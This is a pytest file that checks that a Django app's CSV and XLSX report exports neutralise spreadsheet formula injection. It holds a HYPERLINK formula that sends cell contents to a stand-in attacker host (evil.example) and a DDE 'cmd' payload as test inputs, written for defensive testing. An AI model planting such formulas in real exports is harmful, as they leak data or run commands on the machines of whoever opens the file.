"""CSV/XLSX exports never hand a spreadsheet a formula: a person named "=HYPERLINK(...)" stays text."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from core.reports import REPORTS, Column, Report, export_bytes, neutralise_formula, register
from oralman.models import Person
from tests.factories import PersonFactory

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


def persons_rows(*, user, params):
    return list(Person.objects.order_by("pk").values("surname", "given_name", "birth_date"))


@pytest.fixture
def persons_report():
    report = register(
        Report(
            slug="test-persons",
            title="Persons",
            columns=[Column("surname", "Surname"), Column("given_name", "Name"), Column("birth_date", "Born")],
            rows=persons_rows,
        )
    )
    yield report
    REPORTS.pop(report.slug)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Абаев", "Абаев"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_cell_starting_with_a_formula_trigger_gets_an_apostrophe(text, expected):
    assert neutralise_formula(text) == expected


@pytest.mark.django_db
def test_a_person_named_hyperlink_is_text_in_the_csv(persons_report):
    PersonFactory(surname=ATTACK, given_name="@cmd")
    content, _ctype = export_bytes(persons_report, persons_report.rows(user=None, params={}), "csv")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))  # Russian: ";"
    attacker = next(row for row in rows if "HYPERLINK" in row[0])
    assert attacker[0] == "'" + ATTACK
    assert attacker[1] == "'@cmd"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.django_db
def test_a_person_named_hyperlink_is_text_in_the_xlsx(persons_report):
    PersonFactory(surname=ATTACK, given_name="-1+2")
    content, _ctype = export_bytes(persons_report, persons_report.rows(user=None, params={}), "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + ATTACK in [cell.value for cell in cells]
    assert "'-1+2" in [cell.value for cell in cells]


@pytest.mark.django_db
def test_the_admin_download_and_the_background_export_are_neutralised(client, analyst, persons_report):
    from core.services import report_export_run, report_export_start

    PersonFactory(surname=ATTACK)
    client.force_login(analyst)
    body = client.get("/admin/reports/test-persons/?format=csv").content.decode("utf-8-sig")
    assert "'" + ATTACK.replace('"', '""') in body
    export = report_export_start(report_slug="test-persons", params={}, fmt="csv", user=analyst)
    export = report_export_run(export_id=export.pk)
    assert "'" + ATTACK.replace('"', '""') in export.file.read().decode("utf-8-sig")


def test_numbers_stay_numbers():
    report = Report(slug="n", title="n", columns=[Column("v", "v", numeric=True)], rows=lambda **kw: [])
    content, _ctype = export_bytes(report, [{"v": -5}, {"v": 2.5}], "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert [row[0].value for row in sheet.iter_rows()][-2:] == [-5, 2.5]
